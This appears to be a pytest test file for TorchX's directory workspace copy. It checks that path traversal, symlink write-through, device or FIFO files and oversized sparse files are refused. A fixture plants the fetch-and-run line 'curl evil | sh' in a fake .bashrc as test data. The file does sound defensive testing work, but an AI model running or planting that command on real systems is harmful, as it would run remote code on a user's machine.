"""Workspace mappings (``{LOCAL_PATH: TARGET}``) as hostile input: a target never leaves
the job's copy, a link brought by one entry is never written through by another, and a
mapped single file obeys the rules of a directory copy (links kept, special files
refused, the size limit counted before anything is written)."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from torchx.specs import Role, Workspace
from torchx.workspace.api import WorkspaceTooLargeError
from torchx.workspace.dir_workspace import DirWorkspaceMixin


class DirScheduler(DirWorkspaceMixin):
    """The job_dir copy alone (no scheduler)."""


def _build(workspace: Workspace, job_dir: Path) -> None:
    DirScheduler().build_workspaces(
        [Role("r", "img", workspace=workspace)], {"job_dir": str(job_dir)}
    )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / ".bashrc").write_text("curl evil | sh\n")
    return proj


@pytest.mark.parametrize("target", ["/home/me", "..", "../..", "a/../../x", "/", "a/../../../etc"])
def test_a_target_outside_the_copy_is_refused_when_parsed(project: Path, target: str) -> None:
    with pytest.raises(ValueError, match=r"is outside the workspace copy") as e:
        Workspace.from_str(f'{{"{project}": "{target}"}}')
    assert str(project) in str(e.value) and "\n" not in str(e.value)


@pytest.mark.parametrize("target", ["/home/me", "../escaped"])
def test_a_target_outside_the_copy_is_refused_when_applied(
    project: Path, tmp_path: Path, target: str
) -> None:
    victim = tmp_path / "home-me"
    victim.mkdir()
    (victim / ".bashrc").write_text("mine\n")
    absolute = str(victim) if target.startswith("/") else target
    job_dir = tmp_path / "jobs" / "job"
    with pytest.raises(ValueError, match=r"is outside the workspace copy"):
        _build(Workspace({str(project): absolute, str(tmp_path / "x"): ""}), job_dir)
    assert (victim / ".bashrc").read_text() == "mine\n"
    assert not (tmp_path / "jobs" / "escaped").exists()
    assert not job_dir.exists()  # no half copy left


def test_a_link_brought_by_one_entry_is_not_written_through(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    first = tmp_path / "first"
    first.mkdir()
    os.symlink(home, first / "lib")  # the first project brings lib -> the user's home
    deep = tmp_path / "deep"
    (deep / "sub").mkdir(parents=True)
    os.symlink(home, deep / "sub" / "inner")
    more = tmp_path / "more"
    (more / "sub" / "inner").mkdir(parents=True)
    (more / "sub" / "inner" / ".profile").write_text("evil\n")
    for mapping in (
        {str(first): "", str(project): "lib"},  # a directory mapped onto the link
        {str(first): "", str(project / ".bashrc"): "lib/.bashrc"},  # a file through it
        {str(deep): "", str(more): ""},  # a directory whose copy meets the link inside
    ):
        with pytest.raises(ValueError, match=r"link"):
            _build(Workspace(mapping), tmp_path / "job")
        assert list(home.iterdir()) == [], mapping
        assert not (tmp_path / "job").exists()


def test_a_mapped_file_that_is_a_link_stays_a_link(tmp_path: Path) -> None:
    secret = tmp_path / "secret.key"
    secret.write_text("private\n")
    os.symlink(secret, tmp_path / "key")
    os.symlink("/dev/zero", tmp_path / "zero")
    job_dir = tmp_path / "job"
    _build(Workspace({str(tmp_path / "key"): "k", str(tmp_path / "zero"): "z"}), job_dir)
    assert os.readlink(job_dir / "k") == str(secret)
    assert os.readlink(job_dir / "z") == "/dev/zero"


@pytest.mark.timeout(20)
def test_a_mapped_device_or_fifo_is_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for source in ("/dev/zero", str(tmp_path / "pipe")):
        with pytest.raises(ValueError, match=r"not a regular file") as e:
            _build(Workspace({source: "z", str(tmp_path / "pipe2"): ""}), tmp_path / "job")
        assert source in str(e.value)
        assert not (tmp_path / "job").exists()


def test_a_mapped_file_counts_against_the_size_limit_before_it_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TORCHX_WORKSPACE_MAX_MB", "1")
    sparse = tmp_path / "sparse.img"
    with open(sparse, "wb") as f:
        f.truncate(8 << 30)  # 8 GiB of holes: nothing of it may be written
    seen: list[int] = []
    done = threading.Event()

    def watch() -> None:  # the biggest any file in the job dir ever got
        while not done.is_set():
            sizes = [p.stat().st_size for p in (tmp_path / "job").rglob("*") if p.is_file()]
            seen.append(max(sizes, default=0))

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        with pytest.raises(WorkspaceTooLargeError, match=r"more than 1 MB"):
            _build(Workspace({str(sparse): "disk.img", str(tmp_path / "x"): ""}), tmp_path / "job")
    finally:
        done.set()
        watcher.join()
    assert max(seen, default=0) == 0
    assert not (tmp_path / "job").exists()


def test_a_sparse_file_in_a_directory_is_refused_before_it_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TORCHX_WORKSPACE_MAX_MB", "1")
    ws = tmp_path / "ws"
    ws.mkdir()
    with open(ws / "disk.img", "wb") as f:
        f.truncate(8 << 30)
    with pytest.raises(WorkspaceTooLargeError, match=r"reached at .*disk.img"):
        _build(Workspace({str(ws): ""}), tmp_path / "job")
    assert not (tmp_path / "job").exists()


def test_targets_inside_the_copy_still_work(project: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "util.py").write_text("x = 1\n")
    ws = Workspace.from_str(
        f"{{{project}: '', {other}: 'lib/./extra/', {project / '.bashrc'}: rc}}"
    )
    assert ws.projects[str(other)] == "lib/extra"
    job_dir = tmp_path / "job"
    _build(ws, job_dir)
    assert (job_dir / "lib" / "extra" / "util.py").read_text() == "x = 1\n"
    assert (job_dir / "rc").read_text() == "curl evil | sh\n"
